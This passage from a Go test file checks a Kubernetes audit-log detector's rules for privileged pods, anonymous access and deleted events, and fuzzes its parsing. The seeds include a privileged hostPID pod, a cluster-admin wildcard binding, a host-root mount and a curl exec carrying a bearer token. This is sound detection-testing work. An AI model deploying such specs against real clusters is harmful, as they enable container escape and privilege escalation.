		{name: "D17 allowed image", opts: DetectOptions{PodImageAllow: []string{"alpine"}}, events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: privPod})}, rule: "KGD17", want: 0},
		{name: "D17 malformed body", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: `{"spec":`})}, rule: "KGD17", want: 0},

		// KGD22
		{name: "D22 anonymous lists pods", events: []*audit.Event{ev(evo{user: "system:anonymous", groups: []string{"system:unauthenticated"}, verb: "list", res: "pods"})}, rule: "KGD22", want: 1, sev: reports.High},
		{name: "D22 anonymous creates", events: []*audit.Event{ev(evo{user: "system:anonymous", verb: "create", res: "namespaces"})}, rule: "KGD22", want: 1, sev: reports.Critical},
		{name: "D22 anonymous healthz", events: []*audit.Event{ev(evo{user: "system:anonymous", verb: "get", uri: "/healthz"})}, rule: "KGD22", want: 0},
		{name: "D22 anonymous denied", events: []*audit.Event{ev(evo{user: "system:anonymous", verb: "list", res: "pods", dec: "forbid"})}, rule: "KGD22", want: 0},

		// KGD23
		{name: "D23 events deleted", events: []*audit.Event{ev(evo{user: "mallory", verb: "deletecollection", res: "events", ns: "apps"})}, rule: "KGD23", want: 1, msg: "mallory deleted events in namespace apps"},
		{name: "D23 namespace controller", events: []*audit.Event{ev(evo{user: "system:serviceaccount:kube-system:namespace-controller", verb: "deletecollection", res: "events", ns: "apps"})}, rule: "KGD23", want: 0},
	})
}

// FuzzDetectorBodies feeds arbitrary request bodies and URIs to the
// content detections (pod specs, bindings, roles, exec commands): they
// must never panic, and a redacted command never keeps a bearer token.
func FuzzDetectorBodies(f *testing.F) {
	f.Add(`{"kind":"Pod","spec":{"hostPID":true,"containers":[{"name":"c","securityContext":{"privileged":true}}]}}`, "/x?command=curl&command=-H&command=Authorization:+Bearer+abc")
	f.Add(`{"roleRef":{"kind":"ClusterRole","name":"cluster-admin"},"rules":[{"resources":["*"],"verbs":["*"]}]}`, "/api/v1/nodes/n/proxy/run/a/b/c")
	f.Add(`{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"volumes":[{"hostPath":{"path":"/"}}]}}}}}}`, "%zz")
	f.Fuzz(func(t *testing.T, body, uri string) {
		var events []*audit.Event
		for _, target := range []struct{ group, res, sub string }{
			{"", "pods", ""}, {"batch", "cronjobs", ""}, {"apps", "deployments", ""}, {rbacGroup, "clusterrolebindings", ""},
			{rbacGroup, "roles", ""}, {"", "pods", "exec"}, {"", "nodes", "proxy"},
			{"", "services", ""}, {"certificates.k8s.io", "certificatesigningrequests", ""}, {"", "configmaps", ""},
		} {
			events = append(events, ev(evo{user: "fuzz", verb: "create", group: target.group, res: target.res, sub: target.sub, ns: "n", name: "x", uri: uri, req: body, resp: body}))
		}
		for _, fs := range run(DetectOptions{}, events) {
			for _, f := range fs {
				if strings.Contains(strings.ToLower(f.Message), "bearer abc") {
					t.Fatalf("unredacted token in %q", f.Message)
				}
			}
		}
	})
}
